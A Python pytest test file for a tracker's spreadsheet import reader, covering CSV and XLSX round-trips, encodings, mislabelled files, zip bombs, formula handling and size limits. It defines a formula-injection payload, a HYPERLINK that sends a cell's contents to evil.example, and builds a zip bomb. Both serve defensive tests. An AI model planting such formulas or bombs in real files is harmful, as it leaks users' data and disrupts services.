"""An uploaded spreadsheet read into rows: the tracker's own exports read back as they were
written (the CSV's text, the workbook's types), CSV as spreadsheets save it (semicolons, UTF-16),
files that are not what their name says, zip bombs, formulas, and the limits."""

from __future__ import annotations

import codecs
import datetime as dt
import io
import os
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook

from service.imports import reading
from service.imports.reading import NO_STORED_VALUE, Row, Table, Unreadable, read_table
from service.items import csv_export, xlsx_export
from service.items.models import ItemPublic, QuantityPublic
from tests.support.seed import ITEM

TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def unreadable(filename: str, data: bytes) -> Unreadable:
    with pytest.raises(Unreadable) as raised:
        read_table(filename, data)
    return raised.value


def workbook_bytes(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def item(number: int, **changes: Any) -> ItemPublic:
    values: dict[str, Any] = {
        "id": number,
        "slug": f"item-{number}",
        "kind": "commitment",
        "title": f"Item {number}",
        "description": None,
        "status": "in_progress",
        "status_label": "In progress",
        "phase": "active",
        "outcome": "pending",
        "actor": {"slug": "alan-billings", "name": "Dr Alan Billings"},
        "responsible": None,
        "quantity": {"value": 62, "unit": "staff"},
        "progress": {"value": 40, "target": 62, "percent": 64.5},
        "source": {"slug": "live-updates", "title": "Live updates"},
        "quote": "I have committed 62 additional staff,\nto the unit.",
        "quote_start": 10,
        "quote_end": 60,
        "made_on": dt.date(2015, 2, 3),
        "due_on": None,
        "overdue": False,
        "created_at": dt.datetime(
            2015, 2, 3, 23, 30, 15, tzinfo=dt.timezone(dt.timedelta(hours=2))
        ),
        "updated_at": dt.datetime(2015, 6, 30, 9, 0, tzinfo=dt.UTC),
        "version": 3,
        "reply_count": 0,
        "publication": "published",
    }
    return ItemPublic.of_values({**values, **changes})


# ---------------------------------------------------------------------------------------------
# The tracker's own exports


def test_the_csv_export_reads_back_as_the_text_it_was(app_settings) -> None:
    from service.config import get_settings
    from service.items.filters import ItemFilters

    changed = {
        "title": TITLE,
        "description": "-3 officers, then +2; @once",
        "quantity": QuantityPublic.model_construct(value=-3, unit="=staff"),
    }

    def shown(_session):  # type: ignore[no-untyped-def]
        return lambda it: it.model_copy(update=changed) if it.slug == ITEM else it

    data = b"".join(csv_export.stream(filters=ItemFilters(), sort=None, public_in=shown))
    assert b"'=HYPERLINK" in data and b",-3," in data  # escaped text, a bare negative number
    table = read_table("items.csv", data)
    assert table.columns == csv_export.csv_columns() and table.sheet is None
    base_url = get_settings().base_url.rstrip("/")
    items = list(csv_export.public_items(filters=ItemFilters(), sort=None, public_in=shown))
    expected = [
        {
            column: str(value)
            for column, value in zip(
                table.columns, csv_export.csv_row(it, base_url=base_url), strict=True
            )
        }
        for it in items
    ]
    assert [row.values for row in table.rows] == expected
    assert [row.number for row in table.rows] == list(range(2, len(items) + 2))
    assert all(row.errors == [] for row in table.rows)
    mine = next(row.values for row in table.rows if row.values["slug"] == ITEM)
    assert mine["title"] == TITLE
    assert mine["description"] == "-3 officers, then +2; @once"
    assert (mine["quantity_value"], mine["quantity_unit"]) == ("-3", "=staff")


def test_a_workbook_from_the_export_reads_back_with_its_types(tmp_path: Path) -> None:
    path = tmp_path / "items.xlsx"
    items = [
        item(1, title=TITLE, due_on=dt.date(2016, 3, 31), overdue=True),
        item(2, quantity=None, progress=None, made_on=None, description="+44 20 7946 0000"),
        item(3, quantity={"value": 2.5, "unit": "million pounds"}, progress=None, title="A\x07B"),
    ]
    xlsx_export.write(path, iter(items), base_url="https://tracker.example")
    table = read_table("items.xlsx", path.read_bytes())
    assert table.sheet == "Items" and table.columns == csv_export.csv_columns()
    assert [row.number for row in table.rows] == [2, 3, 4]
    first, second, third = (row.values for row in table.rows)
    assert first["title"] == TITLE and first["id"] == 1 and first["version"] == 3
    assert first["made_on"] == dt.date(2015, 2, 3) and type(first["made_on"]) is dt.date
    assert first["due_on"] == dt.date(2016, 3, 31)
    assert first["created_at"] == dt.datetime(2015, 2, 3, 21, 30, 15)  # in UTC
    assert type(first["created_at"]) is dt.datetime
    assert first["overdue"] is True and second["overdue"] is False
    assert first["quantity_value"] == 62 and type(first["quantity_value"]) is int
    assert first["progress_percent"] == 64.5
    assert third["quantity_value"] == 2.5
    assert third["title"] == "AB"  # a control character a workbook cannot hold is left out
    assert first["links_self"] == "https://tracker.example/api/v1/items/item-1"
    assert first["quote"] == "I have committed 62 additional staff,\nto the unit."
    assert second["description"] == "+44 20 7946 0000"
    assert (second["quantity_value"], second["made_on"], first["description"]) == (None,) * 3
    assert first["responsible_slug"] is None
    assert all(row.errors == [] for row in table.rows)


# ---------------------------------------------------------------------------------------------
# CSV as spreadsheets save it


def test_a_semicolon_csv_with_a_bom() -> None:
    data = '\ufefftitle;status;quantity_value\r\n"Staff; more staff";pledged;3,5\r\n'.encode()
    table = read_table("Export.CSV", data)
    assert table.columns == ["title", "status", "quantity_value"]
    assert table.rows == [
        Row(2, {"title": "Staff; more staff", "status": "pledged", "quantity_value": "3,5"}, [])
    ]


def test_a_utf16_csv_as_excel_saves_unicode_text() -> None:
    data = "title\tstatus\r\nCafé staff, 2015\tpledged\r\n".encode("utf-16")
    assert data.startswith(codecs.BOM_UTF16_LE)
    table = read_table("items.csv", data)
    assert table.rows[0].values == {"title": "Café staff, 2015", "status": "pledged"}
    big_endian = codecs.BOM_UTF16_BE + "title\r\nÉté\r\n".encode("utf-16-be")
    assert read_table("items.csv", big_endian).rows[0].values == {"title": "Été"}


def test_a_csv_in_another_encoding_is_refused_with_what_to_do() -> None:
    refused = unreadable("items.csv", "title\r\nCafé\r\n".encode("cp1252"))
    assert refused.status == 422 and "CSV UTF-8" in refused.message


def test_header_and_empty_rows() -> None:
    data = b"\r\n , \r\n title , status,,\r\nA,pledged,,\r\n\r\n,,\r\nB,delivered\r\nC,,,9\r\n"
    table = read_table("items.csv", data)
    assert table.columns == ["title", "status"]  # stripped; empty columns at the end left out
    assert [(row.number, row.values) for row in table.rows] == [
        (4, {"title": "A", "status": "pledged"}),
        (7, {"title": "B", "status": "delivered"}),
        (8, {"title": "C", "status": ""}),
    ]
    assert table.rows[2].errors == [("D", "a value in a column without a name in the header")]
    assert table.rows[0].errors == table.rows[1].errors == []


def test_a_header_with_a_gap_or_a_name_twice_is_refused() -> None:
    gap = unreadable("items.csv", b"title,,status\r\nA,x,pledged\r\n")
    assert "column B has no name" in gap.message and gap.status == 422
    twice = unreadable("items.csv", b"title,status,Title\r\nA,pledged,B\r\n")
    assert "“Title”" in twice.message and "columns A and C" in twice.message
    assert unreadable("items.csv", b"").message.startswith("the file is empty")
    assert "empty" in unreadable("items.csv", b"\r\n,,\r\n").message


# ---------------------------------------------------------------------------------------------
# Files that are not what their name says


def test_only_csv_and_xlsx_by_name() -> None:
    for name in ("items.txt", "items.xls", "items", "items.csv.exe", ".csv"):
        refused = unreadable(name, b"title\r\nA\r\n")
        assert "only .csv and .xlsx" in refused.message, name
    assert read_table(r"C:\Users\me\Items.Csv", b"title\r\nA\r\n").rows[0].values == {"title": "A"}


def test_an_xlsx_that_is_really_a_csv() -> None:
    refused = unreadable("items.xlsx", b"title,status\r\nA,pledged\r\n")
    assert "this file is not an Excel workbook" in refused.message and refused.status == 422
    # A zip, but not a workbook (a Word document, say).
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<document/>")
    assert "not an Excel workbook" in unreadable("items.xlsx", buffer.getvalue()).message
    assert "not an Excel workbook" in unreadable("items.xlsx", b"PK\x03\x04broken").message


def test_a_csv_that_is_really_a_zip_a_pdf_or_binary() -> None:
    book = Workbook()
    book.active.append(["title"])
    for data, said in (
        (workbook_bytes(book), "it is a zip"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "it is a PDF"),
        (b"title\x00\x01\x02\r\nA\r\n", "binary"),
    ):
        refused = unreadable("items.csv", data)
        assert refused.message.startswith("this file is not a CSV") and said in refused.message


def test_a_damaged_workbook_is_refused_not_a_crash() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook><sheets><sheet")
        archive.writestr("[Content_Types].xml", "<Types/>")
    refused = unreadable("items.xlsx", buffer.getvalue())
    assert "this workbook cannot be read" in refused.message and refused.status == 422


def _zip_with_workbook(member: str, data: bytes, compression: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr(member, data)
    return buffer.getvalue()


def test_a_zip_bomb_is_refused_before_it_is_parsed(monkeypatch) -> None:
    from openpyxl import reader

    def never(*_: object, **__: object) -> None:
        raise AssertionError("the workbook was parsed")

    monkeypatch.setattr(reading, "load_workbook", never)
    monkeypatch.setattr(reader.excel, "load_workbook", never)
    # 100 MB of the same byte: a small file, far more than 200 times its size once expanded.
    bomb = _zip_with_workbook("xl/worksheets/sheet1.xml", b" " * (100 << 20), zipfile.ZIP_DEFLATED)
    assert len(bomb) < reading.MAX_BYTES
    refused = unreadable("items.xlsx", bomb)
    assert refused.message.startswith("the workbook expands to more than 64 MB")
    assert refused.status == 422
    # Parts that compress little but expand past the limit together.
    monkeypatch.setattr(reading, "MAX_EXPANDED_BYTES", 1 << 20)
    stored = _zip_with_workbook("xl/media/image1.bin", os.urandom(1100 << 10), zipfile.ZIP_STORED)
    assert "expands to more than 1 MB" in unreadable("items.xlsx", stored).message


# ---------------------------------------------------------------------------------------------
# Workbooks: types, formulas, sheets


def test_workbook_cells_keep_their_types() -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(["title", "count", "ratio", "day", "moment", "midnight", "done", "blank"])
    sheet.append(
        [
            "A",
            3.0,
            2.5,
            dt.date(2015, 2, 3),
            dt.datetime(2015, 2, 3, 9, 30),
            dt.datetime(2015, 2, 4),
            True,
            "   ",
        ]
    )
    sheet["F2"].number_format = "yyyy-mm-dd hh:mm"  # a moment at midnight stays a moment
    values = read_table("items.xlsx", workbook_bytes(book)).rows[0].values
    assert values == {
        "title": "A",
        "count": 3,
        "ratio": 2.5,
        "day": dt.date(2015, 2, 3),
        "moment": dt.datetime(2015, 2, 3, 9, 30),
        "midnight": dt.datetime(2015, 2, 4),
        "done": True,
        "blank": None,
    }
    assert type(values["count"]) is int and type(values["day"]) is dt.date


def _with_cached_values(data: bytes, replacements: dict[str, str]) -> bytes:
    """The workbook with parts of its first sheet's XML replaced (a stored formula result)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            part = source.read(entry.filename)
            if entry.filename == "xl/worksheets/sheet1.xml":
                text = part.decode()
                for old, new in replacements.items():
                    assert old in text
                    text = text.replace(old, new)
                part = text.encode()
            target.writestr(entry, part)
    return buffer.getvalue()


def test_a_formula_gives_its_stored_value_and_is_never_evaluated() -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(["title", "total", "label"])
    sheet.append(["A", "=1+2", '=A2&"!"'])
    sheet.append(["B", "=SUM(B2:B2)", "plain"])
    written = workbook_bytes(book)
    # As openpyxl writes them: formulas with no stored value.
    table = read_table("items.xlsx", written)
    assert [(row.number, row.values, row.errors) for row in table.rows] == [
        (2, {"title": "A", "total": None, "label": None},
         [("total", NO_STORED_VALUE), ("label", NO_STORED_VALUE)]),
        (3, {"title": "B", "total": None, "label": "plain"}, [("total", NO_STORED_VALUE)]),
    ]  # fmt: skip
    # As a spreadsheet saves them: each with the value it computed (here one it could not
    # have: the stored value is what is read, the formula is not run).
    cached = _with_cached_values(
        written,
        {
            '<c r="B2"><f>1+2</f><v></v></c>': '<c r="B2"><f>1+2</f><v>30</v></c>',
            '<c r="C2"><f>A2&amp;"!"</f><v></v></c>':
                '<c r="C2" t="str"><f>A2&amp;"!"</f><v>A!</v></c>',
            '<c r="B3"><f>SUM(B2:B2)</f><v></v></c>':
                '<c r="B3" t="e"><f>SUM(B2:B2)</f><v>#REF!</v></c>',
        },
    )  # fmt: skip
    rows = read_table("items.xlsx", cached).rows
    assert rows[0] == Row(2, {"title": "A", "total": 30, "label": "A!"}, [])
    assert rows[1].values == {"title": "B", "total": None, "label": "plain"}
    assert rows[1].errors == [("total", "an error (#REF!): type the value itself")]


def test_the_items_sheet_is_read_when_there_is_one() -> None:
    book = Workbook()
    book.active.title = "Notes"
    book.active.append(["note"])
    book.active.append(["read me first"])
    items = book.create_sheet("Items")
    items.append([])
    items.append(["title"])
    items.append(["From the Items sheet"])
    table = read_table("items.xlsx", workbook_bytes(book))
    assert table == Table(["title"], [Row(3, {"title": "From the Items sheet"}, [])], "Items")
    del book["Items"]
    assert read_table("items.xlsx", workbook_bytes(book)).sheet == "Notes"


# ---------------------------------------------------------------------------------------------
# Limits


def test_more_rows_than_allowed_are_refused() -> None:
    lines = ["title"] + [f"Item {n}" for n in range(reading.MAX_ROWS)]
    exactly = "\r\n".join(lines).encode()
    assert len(read_table("items.csv", exactly).rows) == reading.MAX_ROWS
    refused = unreadable("items.csv", exactly + b"\r\none more")
    assert refused.status == 422 and f"more than {reading.MAX_ROWS} rows" in refused.message
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Items")
    for line in [*lines, "one more"]:
        sheet.append([line])
    refused = unreadable("items.xlsx", workbook_bytes(book))
    assert f"more than {reading.MAX_ROWS} rows" in refused.message


def test_more_bytes_than_allowed_is_a_413() -> None:
    data = b"title\r\n" + b"A" * reading.MAX_BYTES
    for name in ("items.csv", "items.xlsx"):
        refused = unreadable(name, data)
        assert refused.status == 413 and "larger than 5 MB" in refused.message
